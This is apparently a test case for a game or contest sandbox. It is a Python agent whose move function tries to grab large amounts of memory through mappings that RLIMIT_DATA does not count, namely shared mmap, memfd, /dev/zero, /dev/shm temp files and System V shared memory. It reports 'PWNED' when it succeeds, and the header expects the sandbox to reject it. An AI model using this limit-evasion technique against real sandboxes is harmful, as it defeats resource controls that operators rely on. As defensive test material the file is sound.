# attack: mapping
# expect: rejected
# language: promised
# verdict: move exception crash
# turns: 1
# note: memory in pieces that RLIMIT_DATA does not count: shared, in a file of memory, of System V
import ctypes

MIB = 1 << 20
libc = ctypes.CDLL(None)
libc.mmap.restype = ctypes.c_void_p
import os

PIECE = 16 * MIB
libc.shmat.restype = ctypes.c_void_p


def take(size, protection=3, flags=0x22, at=0, fd=-1):
    got = libc.mmap(ctypes.c_void_p(at), ctypes.c_size_t(size), ctypes.c_long(protection), ctypes.c_long(flags), fd, ctypes.c_long(0))
    return None if got in (None, 2**64 - 1) else got


def in_a_file(make):
    try:
        fd = make()
    except (OSError, AttributeError):
        return None
    if fd < 0:
        return None
    libc.ftruncate(fd, ctypes.c_long(PIECE))
    return take(PIECE, 3, 1, 0, fd)


def of_system_v():
    key = libc.shmget(0, ctypes.c_size_t(PIECE), 0o1600)
    if key < 0:
        return None
    at = libc.shmat(key, None, 0)
    libc.shmctl(key, 0, None)
    return None if at in (None, 2**64 - 1) else at


WAYS = {
    "shared": lambda: take(PIECE, 3, 0x21),
    "memfd": lambda: in_a_file(lambda: libc.memfd_create(b"piece", 0)),
    "zeros": lambda: take(PIECE, 3, 1, 0, os.open("/dev/zero", os.O_RDWR)),
    "file": lambda: in_a_file(lambda: os.open("/dev/shm", os.O_TMPFILE | os.O_RDWR)),
    "pipe": lambda: take(PIECE, 3, 1, 0, 4) or take(PIECE, 3, 2, 0, 3) or take(PIECE, 3, 2, 0, 0),
    "System V": of_system_v,
}


def move(observation):
    held = 0
    for name, way in WAYS.items():
        while held < 900 * MIB:
            try:
                at = way()
            except OSError:
                break
            if not at:
                break
            ctypes.memset(at, 1, PIECE)
            held += PIECE
        if held:
            return "PWNED %d MiB held that no limit counts: %s" % (held // MIB, name)
    return observation["legal"][0]
